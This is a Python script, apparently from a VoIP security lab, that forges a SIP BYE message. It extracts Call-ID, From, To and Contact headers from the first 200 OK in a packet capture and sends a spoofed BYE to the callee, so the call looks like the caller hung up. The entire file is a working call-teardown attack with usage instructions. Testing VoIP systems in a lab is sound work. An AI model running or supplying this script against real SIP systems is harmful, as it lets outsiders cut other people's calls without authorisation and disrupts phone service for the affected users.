#!/usr/bin/env python3
"""Forge a BYE for the first established dialog seen in a (growing) capture, as a third party would.

Usage: forge_bye.py CAPTURE SRC_IP [SRC_PORT]. Reads the capture with scapy, takes the first 200 OK to an INVITE
that the proxy sent to the caller (Call-ID, From with tag, To with tag, the callee's Contact) and sends, from
SRC_IP:SRC_PORT (a plain UDP socket: the attacker's own address), a BYE to the callee's Contact, with the caller's
From and the callee's To as if the caller hung up.
"""
import re
import socket
import sys

from scapy.all import UDP, rdpcap  # type: ignore

cap, src = sys.argv[1], sys.argv[2]
sport = int(sys.argv[3]) if len(sys.argv) > 3 else 5060
ok = None
for p in rdpcap(cap):
    if UDP in p and bytes(p[UDP].payload).startswith(b"SIP/2.0 200") and b"INVITE" in bytes(p[UDP].payload):
        ok = bytes(p[UDP].payload).decode("latin-1")
        break
if ok is None:
    sys.exit("no 200 OK to an INVITE in the capture yet")


def hdr(name: str) -> str:
    m = re.search(r"^" + name + r":\s*(.*?)\r?$", ok, re.M | re.I)
    if not m:
        sys.exit(f"no {name} header")
    return m.group(1).strip()


call_id, frm, to, contact = hdr("Call-ID"), hdr("From"), hdr("To"), hdr("Contact")
cseq = int(hdr("CSeq").split()[0]) + 1
target = re.search(r"<(sip:[^>]+)>", contact).group(1)
host_port = re.search(r"sip:(?:[^@;>]+@)?([0-9.]+)(?::(\d+))?", target)
dst = (host_port.group(1), int(host_port.group(2) or 5060))
msg = (
    f"BYE {target} SIP/2.0\r\n"
    f"Via: SIP/2.0/UDP {src}:{sport};branch=z9hG4bK-forged-bye-1;rport\r\n"
    f"From: {frm}\r\n"
    f"To: {to}\r\n"
    f"Call-ID: {call_id}\r\n"
    f"CSeq: {cseq} BYE\r\n"
    "Max-Forwards: 70\r\n"
    "User-Agent: callguard-lab-forged\r\n"
    "Content-Length: 0\r\n\r\n"
)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((src, sport))
s.sendto(msg.encode(), dst)
print(f"forged BYE for Call-ID {call_id} sent from {src}:{sport} to {dst[0]}:{dst[1]}")
s.settimeout(2)
try:
    data, addr = s.recvfrom(4096)
    print(f"answer from {addr}: {data.splitlines()[0].decode()}")
except socket.timeout:
    print("no answer to the attacker")
